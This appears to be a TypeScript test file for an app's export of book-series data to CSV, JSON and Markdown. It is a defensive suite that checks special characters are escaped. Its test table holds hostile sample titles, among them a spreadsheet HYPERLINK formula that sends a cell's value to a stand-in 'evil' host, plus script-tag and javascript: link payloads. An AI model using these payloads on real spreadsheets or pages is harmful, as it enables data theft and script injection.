import fc from 'fast-check'
import t from 'tap'
import type { ExportColumns, ExportFormat } from '#core/exports/export-field-query.ts'
import { csvCell, type ExportRecord, escapeMarkdown, exportWriterOf } from '#core/exports/export-format.ts'
import { readCsv, unguarded } from '#test/support/csv-reader.ts'
import { assertInTime } from '#test/support/timed-property.ts'

const SERIES: ExportColumns = { type: 'series', fields: ['series_name', 'summary', 'year', 'tags'], bookFields: [] }
const BOTH: ExportColumns = { type: 'both', fields: ['series_name', 'year'], bookFields: ['book_name', 'number', 'summary'] }

const write = (format: ExportFormat, columns: ExportColumns, records: ExportRecord[]) => {
  const writer = exportWriterOf(format, columns)
  return writer.start() + records.map((record) => writer.add(record)).join('') + writer.end()
}
const series = (row: Record<string, unknown>): ExportRecord => ({ kind: 'series', row })
const book = (row: Record<string, unknown>): ExportRecord => ({ kind: 'book', row })

/** Titles with a special meaning somewhere, with their form in a cell of CSV and in Markdown. */
const HOSTILE: [title: string, cell: string, markdown: string][] = [
  ['Saga', 'Saga', 'Saga'],
  ['', '', ''],
  ['One, two', '"One, two"', 'One, two'],
  ['The "Best"', '"The ""Best"""', 'The "Best"'],
  ['=HYPERLINK("http://evil/?"&A1,"x")', '"\'=HYPERLINK(""http://evil/?""&A1,""x"")"', '\\=HYPERLINK("http\\://evil/?"\\&A1,"x")'],
  ['+1 Sword', "'+1 Sword", '\\+1 Sword'],
  ['-1', "'-1", '\\-1'],
  ['@home', "'@home", '@home'],
  ['  =1+1', "'  =1+1", '\\=1+1'],
  ['\t=1', "'\t=1", '\\=1'],
  ['\u200b=1', "'\u200b=1", '\u200b=1'],
  ['＝1+1', "'＝1+1", '＝1+1'],
  ["'=1", "''=1", "'=1"],
  ["'Salem's Lot", "'Salem's Lot", "'Salem's Lot"],
  ['a\r\nb', '"a\r\nb"', 'a\\\n  b'],
  ['\r=1', '"\'\r=1"', '\\=1'],
  ['# Heading', '# Heading', '\\# Heading'],
  ['[click](javascript:alert(1))', '[click](javascript:alert(1))', '\\[click\\](javascript:alert(1))'],
  ['<script>alert(1)</script>', '<script>alert(1)</script>', '\\<script\\>alert(1)\\</script\\>'],
  ['*bold* _it_ `code` ~~gone~~', '*bold* _it_ `code` ~~gone~~', '\\*bold\\* \\_it\\_ \\`code\\` \\~\\~gone\\~\\~'],
  ['1. First', '1. First', '1\\. First'],
  ['2) Second', '2) Second', '2\\) Second'],
  ['a | b', 'a | b', 'a \\| b'],
  ['back\\slash', 'back\\slash', 'back\\\\slash'],
  ['&lt;b&gt; $x$', '&lt;b&gt; $x$', '\\&lt;b\\&gt; \\$x\\$'],
  ['www.evil.example', 'www.evil.example', 'www\\.evil.example'],
  ['進撃の巨人 🗡️ é', '進撃の巨人 🗡️ é', '進撃の巨人 🗡️ é'],
  ['a\n\n\n- b', '"a\n\n\n- b"', 'a\\\n  \\- b'],
]

t.test('hostile titles, one by one', async (t) => {
  for (const [title, cell, markdown] of HOSTILE) {
    const row = series({ series_name: 'x', summary: title })
    const columns: ExportColumns = { ...SERIES, fields: ['series_name', 'summary'] }
    t.equal(write('csv', columns, [row]), `\uFEFFseries_name,summary\r\nx,${cell}\r\n`, `CSV: ${JSON.stringify(title)}`)
    t.same(JSON.parse(write('json', columns, [row])), [{ series_name: 'x', summary: title }], `JSON: ${JSON.stringify(title)}`)
    const text = markdown === '' ? '' : `\n- **Summary:** ${markdown}\n`
    t.equal(write('md', columns, [row]), `# Series\n\n## x\n${text}`, `Markdown: ${JSON.stringify(title)}`)
    const heading = /\n## (.*)\n/.exec(write('md', columns, [series({ series_name: title })]))?.[1]
    t.equal(heading, escapeMarkdown(title.replaceAll(/[\r\n]+/g, ' ')) || '(no name)', 'a heading is one line')
  }
})

t.test('values that are no texts are written to cells of CSV files', async (t) => {
  const made = new Date('2026-01-02T03:04:05.678Z')
  const cells: [unknown, string][] = [
    [null, ''],
    [undefined, ''],
    [-1.5, '-1.5'],
    [0, '0'],
    [false, 'false'],
    [made, '2026-01-02T03:04:05.678Z'],
    [[], ''],
    [['Drama', 'Space, deep'], '"Drama | Space, deep"'],
    [['a|b', 'c\\d'], 'a\\|b | c\\\\d'],
    [['=1', 'x'], "'=1 | x"],
    [[{ name: 'Moore', role: 'writer' }, { name: 'Gibbons' }], 'Moore (writer) | Gibbons'],
    [[{ label: 'Japanese', title: '進撃' }], 'Japanese: 進撃'],
    [
      [
        { source: 'mal', rating: 84.5, voteCount: 10 },
        { source: 'x', rating: 1, voteCount: null },
      ],
      'mal: 84.5 (10 votes) | x: 1',
    ],
    [[{ source: 'anilist', externalId: '16498' }], 'anilist: 16498'],
  ]
  for (const [value, cell] of cells) t.equal(csvCell(value), cell, JSON.stringify(value))
  const row = series({ series_name: 'x', year: 2012, tags: ['a', 'b*'], summary: null })
  t.same(JSON.parse(write('json', SERIES, [row])), [{ series_name: 'x', summary: null, year: 2012, tags: ['a', 'b*'] }])
  t.equal(write('md', SERIES, [row]), '# Series\n\n## x\n\n- **Year:** 2012\n- **Tags:** a, b\\*\n')
})

t.test('an empty export, and series with their books', async (t) => {
  t.same(JSON.parse(write('json', SERIES, [])), [])
  t.same(JSON.parse(write('json', BOTH, [])), [])
  t.equal(write('csv', SERIES, []), '\uFEFFseries_name,summary,year,tags\r\n')
  t.equal(write('md', { ...BOTH, type: 'books' }, []), '# Books\n')

  const records = [
    series({ series_name: 'Saga', year: 2012 }),
    book({ book_name: 'Saga 1', number: 1, summary: 'One' }),
    book({ book_name: 'Saga 2', number: 2, summary: null }),
    series({ series_name: 'Alone', year: null }),
    series({ series_name: 'Zed', year: 1999 }),
    book({ book_name: 'Zed 1', number: 0.5, summary: null }),
  ]
  t.same(JSON.parse(write('json', BOTH, records)), [
    {
      series_name: 'Saga',
      year: 2012,
      books: [
        { book_name: 'Saga 1', number: 1, summary: 'One' },
        { book_name: 'Saga 2', number: 2, summary: null },
      ],
    },
    { series_name: 'Alone', year: null, books: [] },
    { series_name: 'Zed', year: 1999, books: [{ book_name: 'Zed 1', number: 0.5, summary: null }] },
  ])
  t.same(readCsv(write('csv', BOTH, records).slice(1)), [
    ['record_type', 'series_name', 'year', 'book_name', 'book_number', 'book_summary'],
    ['series', 'Saga', '2012', '', '', ''],
    ['book', 'Saga', '', 'Saga 1', '1', 'One'],
    ['book', 'Saga', '', 'Saga 2', '2', ''],
    ['series', 'Alone', '', '', '', ''],
    ['series', 'Zed', '1999', '', '', ''],
    ['book', 'Zed', '', 'Zed 1', '0.5', ''],
  ])
  t.equal(
    write('md', BOTH, records.slice(0, 2)),
    '# Series\n\n## Saga\n\n- **Year:** 2012\n\n### Saga 1\n\n- **Number:** 1\n- **Summary:** One\n',
  )
})

/** Texts that mostly consist of special characters. */
const nasty = fc.oneof(
  fc.string({ unit: fc.constantFrom(...'",\r\n\t=+-@\'| \\a1é＝\u200b', '🗡️') }),
  fc.string({ unit: 'grapheme' }),
  fc.string({ unit: 'binary' }),
)

t.test('every text in a table can be read back, and no cell is a formula', async (t) => {
  assertInTime(
    fc.property(
      fc.array(fc.record({ series_name: nasty, summary: nasty, tags: fc.array(nasty.filter((text) => text !== '')) })),
      (rows) => {
        const columns: ExportColumns = { type: 'series', fields: ['series_name', 'summary', 'tags'], bookFields: [] }
        const [header, ...cells] = readCsv(write('csv', columns, rows.map(series)).slice(1))
        if (header?.join() !== 'series_name,summary,tags') throw new Error('header')
        if (cells.flat().some((cell) => /^\s*[=+\-@＝＋－＠]/.test(cell))) throw new Error('a formula')
        const back = cells.map(([name, summary, tags]) => [
          unguarded(name as string),
          unguarded(summary as string),
          unguarded(tags as string),
        ])
        const joined = (list: string[]) => list.map((text) => text.replaceAll(/[\\|]/g, '\\$&')).join(' | ')
        t.same(
          back,
          rows.map(({ series_name, summary, tags }) => [series_name, summary, joined(tags)]),
        )
      },
    ),
    { numRuns: 300 },
  )
})

t.test('every text in JSON can be read back; Markdown keeps every text inside its line', async (t) => {
  assertInTime(
    fc.property(fc.array(fc.record({ series_name: nasty, summary: nasty })), (rows) => {
      const columns: ExportColumns = { type: 'series', fields: ['series_name', 'summary'], bookFields: [] }
      t.same(JSON.parse(write('json', columns, rows.map(series))), rows)
      const lines = write('md', columns, rows.map(series)).split('\n')
      if (lines.filter((line) => line.startsWith('## ')).length !== rows.length) throw new Error('headings')
      const strange = lines.filter((line) => !/^(# Series|## .+|- \*\*Summary:\*\* .+| {2}\S.*|)$/u.test(line))
      if (strange.length > 0) throw new Error(`strange: ${JSON.stringify(strange)}`)
      // Every character that could begin markup follows a backslash.
      for (const line of lines.slice(1)) {
        const text = line.replace(/^(## |- \*\*Summary:\*\* | {2})/, '').replaceAll(/\\./gu, '')
        if (/[`*_{}[\]<>#|~$&]/.test(text)) throw new Error(`bare: ${JSON.stringify(line)}`)
      }
    }),
    { numRuns: 300 },
  )
})
